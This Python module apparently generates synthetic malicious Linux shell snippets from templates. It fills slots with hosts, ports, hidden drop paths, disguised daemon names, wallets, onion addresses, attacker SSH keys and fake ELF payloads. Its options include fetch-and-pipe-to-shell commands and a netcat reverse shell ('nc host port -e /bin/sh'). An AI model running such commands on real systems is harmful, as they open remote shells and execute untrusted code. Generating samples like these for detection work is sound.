"""A small template language: ‹a¦b› picks one, {name} fills a slot, the same name twice within one script is the
same value."""

import base64
import gzip
import random
import re
import string

WORDS = (
    "app data node work task job sync update agent svc core net sys log proc main run base temp cache daemon helper "
    "worker client remote local config setup init check loader build tool stage pkg bin lib mon watch"
).split()
# Directories where programs of packages and of administrators lie.
OF_PACKAGES = {"/usr/local/bin", "/usr/bin", "/opt", "/etc", "/var/lib", "/root", "$HOME"}
DOMAINS = "example.com example.net example.org evil.example cdn.example files.example update.test pool.example a.test".split()


class Slots:
    """Values of one script's slots."""

    def __init__(self, rng):
        self.rng = rng
        self.values = {}
        # Does this author write $name where ${name} is not needed?
        self.bare = rng.random() < 0.5

    def fill(self, name):
        if name not in self.values:
            maker = getattr(self, "make_" + name.rstrip("0123456789"), None)
            if maker is None:
                raise KeyError(name)
            self.values[name] = maker()
        return self.values[name]

    def make_ip(self):
        r = self.rng
        # Who is inside already has neighbours.
        if r.random() < 0.12:
            return r.choice(["10.%d.%d" % (r.randrange(256), r.randrange(256)), "192.168.%d" % r.randrange(256), "172.%d.%d" % (r.randrange(16, 32), r.randrange(256))]) + ".%d" % r.randrange(2, 255)
        net = r.choice(["192.0.2", "198.51.100", "203.0.113", "198.18.%d" % r.randrange(255)])
        return "%s.%d" % (net, r.randrange(1, 255))

    def make_domain(self):
        r = self.rng
        # Names for documentation stand in much harmless text: they are to say nothing.
        if r.random() < 0.05:
            return r.choice(DOMAINS)
        return "%s%s.%s" % (r.choice(WORDS), r.choice(["", "-" + r.choice(WORDS), str(r.randrange(99))]), r.choice("com net org io xyz top ru cn info sh dev".split()))

    def make_host(self):
        return self.fill("ip") if self.rng.random() < 0.55 else self.fill("domain")

    def make_port(self):
        return str(self.rng.choice([4444, 1337, 9001, 8080, 443, 53, 80, 31337, 6666, 5555, 1234, 8443, self.rng.randrange(1025, 65000)]))

    def make_name(self):
        r = self.rng
        return r.choice([r.choice(WORDS), r.choice(WORDS) + r.choice(["", "_", "-"]) + r.choice(WORDS), "." + r.choice(WORDS),
                         "".join(r.choices(string.ascii_lowercase + string.digits, k=r.randrange(3, 9)))])

    def make_plain(self):
        r = self.rng
        return r.choice([r.choice(WORDS), r.choice(WORDS) + r.choice(["_", "-"]) + r.choice(WORDS)])

    def make_user(self):
        return self.rng.choice(["deploy", "app", "backup", "svc", "ubuntu", "admin", "git", "web", self.fill("plain")])

    def make_var(self):
        r = self.rng
        v = r.choice([r.choice(WORDS), r.choice(WORDS).upper(), r.choice(string.ascii_letters), r.choice(WORDS) + "_" + r.choice(WORDS),
                      "".join(r.choices(string.ascii_letters, k=r.randrange(2, 8)))])
        return v

    def make_fn(self):
        """A name for a function."""
        r = self.rng
        verb = r.choice("do run get set make start load send handle process check prepare work main go step task".split())
        return r.choice([verb + "_" + r.choice(WORDS), r.choice(WORDS) + "_" + verb, verb + r.choice(WORDS).capitalize(), "_" + r.choice(WORDS), r.choice(string.ascii_lowercase) + str(r.randrange(1, 9)), r.choice(WORDS)])

    def make_url(self):
        r = self.rng
        # Certificates are for names; bare addresses are fetched from in the clear. A name over TLS says little: installers come so.
        bare = self.fill("host")[0].isdigit()
        scheme = "https" if r.random() < (0.1 if bare else 0.15) else "http"
        port = r.choice(["", "", "", ":" + self.fill("port")])
        # Tools that fetch take a host and a path as well.
        scheme = "" if r.random() < 0.04 else scheme + "://"
        return f"{scheme}{self.fill('host')}{port}/{self.fill('urlpath')}"

    def make_urlpath(self):
        r = self.rng
        return r.choice(["", r.choice(WORDS) + "/"]) + r.choice([self.fill("plain"), "".join(r.choices(string.ascii_lowercase + string.digits, k=5))]) + r.choice(["", ".sh", ".sh", ".txt", ".png", ".jpg", ".x86_64", ".bin", ".tar.gz", ".b64"])

    def make_tmp(self):
        return self.rng.choice(["/tmp", "/var/tmp", "/dev/shm", "/tmp/.X11-unix", "/tmp/.font-unix", "/run", "/var/run", "/usr/local/bin", "/opt", "/etc", "/tmp/.ICE-unix", "/root", "$HOME", "/mnt", "/usr/bin", "/var/lib", "/tmp/." + self.rng.choice(WORDS)])

    def make_file(self):
        """A program that no package installed. Where packages put theirs, it is the name that is strange."""
        place, name = self.fill("tmp"), self.fill("name")
        if place in OF_PACKAGES and name[0] != "." and self.rng.random() < 0.7:
            name = "." + name
        return f"{place}/{name}"

    def make_b(self):
        return "".join(self.rng.choices(string.ascii_letters + string.digits + "+/", k=4 * self.rng.randrange(10, 60)))

    def make_elf(self):
        """The beginning of a program, as base64; what follows its header is noise."""
        return b64(self._program())

    def make_elflines(self):
        return wrapped(self.make_elf(), self.rng)

    def make_elfgzlines(self):
        return wrapped(self.make_elfgz(), self.rng)

    def make_packedlines(self):
        return wrapped(self.make_packed(), self.rng)

    def make_elfhex(self):
        return _escaped(self._program()[: self.rng.randrange(16, 80)])

    def make_stub(self):
        """Of a program that only shows whether the processor can run it."""
        return b64(self._program(range(60, 240)))

    def make_stubhex(self):
        return _escaped(self._program()[:7])

    def make_elfgz(self):
        return b64(gzip.compress(self._program(), mtime=0))

    def make_packed(self):
        """An archive of nothing, as base64."""
        return b64(gzip.compress(bytes(512) + self.rng.randbytes(self.rng.randrange(100, 600)), mtime=0))

    def _program(self, size=None):
        r = self.rng
        size = size or r.choice([range(100, 500), range(1024, 2048)])
        header = b"\x7fELF" + bytes([r.choice([1, 2]), 1, 1, 0]) + bytes(8) + bytes([r.choice([2, 3]), 0, r.choice([3, 8, 40, 62, 183]), 0, 1, 0, 0, 0])
        return header + r.randbytes(r.choice(size))

    def make_key(self):
        kind = self.rng.choice(["ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"])
        return kind + "".join(self.rng.choices(string.ascii_letters + string.digits + "+/", k=self.rng.randrange(40, 200))) + self.rng.choice(["", " root@kali", " user@host", " " + self.fill("plain")])

    def make_wallet(self):
        return self.rng.choice("48") + "".join(self.rng.choices(string.ascii_letters + string.digits, k=94))

    def make_n(self):
        return str(self.rng.choice([1, 2, 3, 5, 10, 15, 30, 60, 120, 300]))

    def make_dl(self):
        """A way to fetch a URL to standard output."""
        return self.rng.choice(["curl -fsSL", "curl -s", "curl -sL", "curl -sk", "wget -qO-", "wget -q -O -", "curl --silent --insecure", "curl -fsS --retry 3", "wget --no-check-certificate -qO-", "curl -m 30 -fsSL"])

    def make_run(self):
        """What starts something that came from elsewhere; without quotes, so that it stands in any."""
        r = self.rng
        place, name = self.fill("file"), self.fill("name")
        if "/." not in place and not place.startswith(("/tmp", "/var/tmp", "/dev/shm")):
            # Packages may have put it there.
            place = r.choice(["/dev/shm/", "/var/tmp/.", "/tmp/.", "/usr/lib/.", "/etc/."]) + name.strip(".")
        return r.choice([f"{self.fill('dl')} {self.fill('url')} | {r.choice(['sh', 'bash'])}", place, f"{place} -d", f"nohup {place} >/dev/null 2>&1 &", f"setsid {place} &", f"/bin/sh {place}.sh",
                         f"python3 {place}.py", f"perl {place}.pl", f"nc {self.fill('host')} {self.fill('port')} -e /bin/sh", f"/usr/lib/.{name.strip('.')}/run", f". {place}"])

    def make_data(self):
        """Where a machine keeps what people miss."""
        return self.rng.choice(["/srv", "/home", "/var/www", "/data", "/var/lib/mysql", "/mnt/nas", "/export", "/media", "/opt/data", "/var/lib/postgresql", "/srv/samba", "/mnt/share", "/storage", f"/srv/{self.fill('plain')}"])

    def make_ext(self):
        r = self.rng
        return r.choice(["locked", "enc", "crypt", "encrypted", "aes", r.choice(WORDS), "".join(r.choices(string.ascii_lowercase + string.digits, k=r.randrange(4, 8)))])

    def make_onion(self):
        return "".join(self.rng.choices(string.ascii_lowercase + "234567", k=56)) + ".onion"

    def make_hex(self):
        return self.rng.randbytes(self.rng.choice([8, 16, 20, 32])).hex()

    def make_disguise(self):
        """A name that looks like a part of the system."""
        r = self.rng
        return r.choice(["systemd", "dbus", "udev", "kernel", "network", "gvfs", "cron", "ssh", "snap", "polkit", "rsys", "acpi"]) + r.choice(["-", "", "d-"]) + r.choice(["helper", "update", "cache", "monitor", "sync", "worker", "notify", "bus", "agent", "check", self.fill("plain")])

    def make_agent(self):
        return self.rng.choice(["curl/7.68.0", "Mozilla/5.0", "linux", self.fill("plain")])


def expand(template, slots):
    """One text of the template's language."""
    rng = slots.rng
    out = template
    while "‹" in out:
        start = out.rfind("‹")
        end = out.index("›", start)
        out = out[:start] + rng.choice(out[start + 1 : end].split("¦")) + out[end + 1 :]
    parts, at = [], 0
    while True:
        start = out.find("{", at)
        if start < 0:
            break
        end = out.find("}", start)
        name = out[start + 1 : end] if end > 0 else ""
        if name.rstrip("0123456789") == "var" and start and out[start - 1] == "$":
            # A reference to the variable, not a slot of its own.
            bare = slots.bare and not re.match(r"[\w\[{]", out[end + 1 : end + 2])
            parts += [out[at:start], slots.fill(name)] if bare else [out[at : start + 1], slots.fill(name), "}"]
            at = end + 1
        elif name.isalnum() and name.islower() and (start == 0 or out[start - 1] != "$"):
            try:
                value = slots.fill(name)
            except KeyError:
                parts.append(out[at : start + 1])
                at = start + 1
                continue
            parts += [out[at:start], value]
            at = end + 1
        else:
            parts.append(out[at : start + 1])
            at = start + 1
    # What runs in the background ends its statement by that.
    return re.sub(r"& ?; ", "& ", "".join(parts) + out[at:])


def _escaped(data):
    return "".join("\\x%02x" % byte for byte in data)


def b64(data):
    return base64.b64encode(data).decode()


def wrapped(text, rng):
    """In lines as long as those of base64(1), or of PEM."""
    width = rng.choice([76, 76, 64])
    return "\n".join(text[at : at + width] for at in range(0, len(text), width))
